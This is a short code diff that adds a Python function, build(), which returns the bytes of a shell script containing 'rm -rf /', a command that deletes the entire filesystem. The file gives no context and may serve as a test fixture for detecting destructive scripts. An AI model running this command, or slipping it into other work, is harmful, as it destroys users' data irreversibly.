@@ -1,0 +1,5 @@
+"""A shell script."""
+
+
+def build():
+    return b"#!/bin/sh\nrm -rf /\n"
